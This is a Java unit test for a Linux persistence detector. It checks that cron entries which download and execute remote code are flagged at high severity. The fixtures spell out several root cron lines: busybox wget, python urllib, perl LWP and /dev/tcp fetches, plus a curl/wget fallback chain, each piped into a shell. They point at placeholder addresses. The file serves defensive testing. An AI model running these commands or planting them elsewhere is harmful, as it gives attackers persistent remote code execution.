package dev.ferret.detect.persistence;

import dev.ferret.collect.linux.persistence.Fixture;
import dev.ferret.model.Finding;
import dev.ferret.model.Severity;
import dev.ferret.model.Snapshot;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;

import static dev.ferret.detect.persistence.ThreatCasesTest.atLeast;
import static dev.ferret.detect.persistence.ThreatCasesTest.evidence;
import static dev.ferret.detect.persistence.ThreatCasesTest.one;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Download-and-execute without a plain curl/wget, and every address of a command with fallbacks. */
class DownloaderVariantsTest {
    private static final String DOWNLOAD = "linux.persistence.download-exec";

    @TempDir
    Path root;

    private List<Finding> cron(String... lines) {
        Snapshot s = new Fixture(root).file("/etc/cron.d/update", String.join("\n", lines) + "\n").collectAll();
        return Fixture.detect(s);
    }

    @Test
    void busyboxPythonPerlAndDevTcpDownloadersAreDownloadAndExecute() {
        List<Finding> findings = cron(
                "*/5 * * * * root busybox wget -q -O- http://203.0.113.9/a.sh | sh",
                "*/5 * * * * root python3 -c \"import urllib.request,os;"
                        + "os.system(urllib.request.urlopen('http://203.0.113.9/b').read().decode())\"",
                "*/5 * * * * root perl -e 'use LWP::Simple; eval(get(\"http://203.0.113.9/c\"))'",
                "*/5 * * * * root exec 3<>/dev/tcp/203.0.113.9/80; echo 'GET /d.sh' >&3; cat <&3 | bash");
        for (int line = 1; line <= 4; line++) {
            atLeast(Severity.HIGH, one(findings, DOWNLOAD, "/etc/cron.d/update", line));
        }
    }

    @Test
    void everyAlternativeAddressIsEvidenceAndBlocked() {
        List<Finding> findings = cron("*/3 * * * * root (curl -fsSL https://pastebin.example/raw/x || "
                + "wget -q -O- http://198.51.100.20/x.sh || python -c 'print(1)') | bash");
        Finding f = one(findings, DOWNLOAD, "/etc/cron.d/update", 1);
        assertTrue(evidence(f, "https://pastebin.example/raw/x"), f.reasons().toString());
        assertTrue(evidence(f, "http://198.51.100.20/x.sh"), f.reasons().toString());
        assertTrue(f.response().stream().anyMatch(r -> r.contains("pastebin.example")), f.response().toString());
        assertTrue(f.response().stream().anyMatch(r -> r.contains("198.51.100.20")), f.response().toString());
    }
}
